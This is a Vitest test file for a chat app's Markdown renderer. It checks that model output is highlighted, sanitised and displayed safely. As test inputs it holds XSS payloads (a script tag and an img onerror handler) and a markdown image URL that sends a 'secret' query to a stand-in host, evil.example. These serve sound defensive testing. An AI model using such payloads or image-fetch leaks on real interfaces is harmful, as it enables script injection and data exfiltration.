import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { Markdown } from "@/components/chat/markdown";
import { codeLanguage, codeText, copyText, type TreeNode } from "@/lib/code-blocks";
import { ImageSourcesProvider } from "@/components/image-sources";

describe("Markdown", () => {
  it("renders fenced code with highlight.js classes", () => {
    const html = renderToStaticMarkup(<Markdown text={"Try this:\n\n```python\ndef add(a, b):\n    return a + b\n```"} />);
    expect(html).toContain('class="hljs language-python"');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain("<p>Try this:</p>");
  });

  it("renders GitHub tables and never raw HTML from the model", () => {
    const html = renderToStaticMarkup(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n<script>alert(1)</script><img src=x onerror=alert(1)>"} />);
    expect(html).toContain("<table>");
    expect(html).not.toContain("<script>");
    expect(html).not.toContain("<img");
  });

  it("opens links in a new tab without handing over the opener", () => {
    const html = renderToStaticMarkup(<Markdown text="[docs](https://example.com)" />);
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noreferrer noopener"');
  });

  it("shows a remote image as a link naming its host, never as an image", () => {
    const html = renderToStaticMarkup(<Markdown text="See ![chart](https://evil.example/leak.png?q=secret) here" />);
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://evil.example/leak.png?q=secret"');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain("Image: chart (evil.example)");
  });

  it("keeps same-origin and data: images as images", () => {
    const html = renderToStaticMarkup(<Markdown text={"![logo](/icon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)"} />);
    expect(html).toContain('<img src="/icon.svg" alt="logo"/>');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"/>');
  });

  it("shows images from the configured hosts as images", () => {
    const html = renderToStaticMarkup(
      <ImageSourcesProvider sources={["https://img.example.com"]}>
        <Markdown text={"![a](https://img.example.com/a.png) ![b](https://evil.example/b.png)"} />
      </ImageSourcesProvider>,
    );
    expect(html).toContain('<img src="https://img.example.com/a.png" alt="a"/>');
    expect(html).toContain("Image: b (evil.example)");
  });

  it("puts the language and a copy button over fenced code", () => {
    const html = renderToStaticMarkup(<Markdown text={"```python\nprint(1)\n```\n\n```\nplain\n```"} />);
    expect(html.match(/data-testid="code-block"/g)).toHaveLength(2);
    expect(html).toContain('<span class="font-mono">python</span>');
    expect(html).toContain('<span class="font-mono">code</span>');
    expect(html).toContain('aria-label="Copy code"');
  });

  it("wraps a table in a box that scrolls sideways", () => {
    const html = renderToStaticMarkup(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |"} />);
    expect(html).toMatch(/<div class="table-scroll" data-testid="table-scroll" role="region" aria-label="Table" tabindex="0"><table>/);
  });
});

/** A highlighted block as rehype-highlight leaves it: the code split into spans. */
const HIGHLIGHTED: TreeNode = {
  type: "element",
  tagName: "pre",
  children: [
    {
      type: "element",
      tagName: "code",
      properties: { className: ["hljs", "language-python"] },
      children: [
        { type: "element", tagName: "span", children: [{ type: "text", value: "def" }] },
        { type: "text", value: " f():\n    " },
        { type: "element", tagName: "span", children: [{ type: "text", value: "return" }] },
        { type: "text", value: " 1\n" },
      ],
    },
  ],
};

describe("code blocks", () => {
  it("copies the code as written: every span's text, without the line end markdown adds", () => {
    expect(codeText(HIGHLIGHTED)).toBe("def f():\n    return 1");
    expect(codeLanguage(HIGHLIGHTED)).toBe("python");
    expect(codeLanguage({ type: "element", tagName: "pre", children: [{ type: "element", tagName: "code", properties: {} }] })).toBeNull();
    expect(codeText(undefined)).toBe("");
  });

  it("says whether the copy worked", async () => {
    const written: string[] = [];
    expect(await copyText("x = 1", { writeText: async (text) => void written.push(text) })).toBe(true);
    expect(written).toEqual(["x = 1"]);
    expect(await copyText("x", { writeText: () => Promise.reject(new DOMException("denied", "NotAllowedError")) })).toBe(false);
    expect(await copyText("x", undefined)).toBe(false);
  });
});
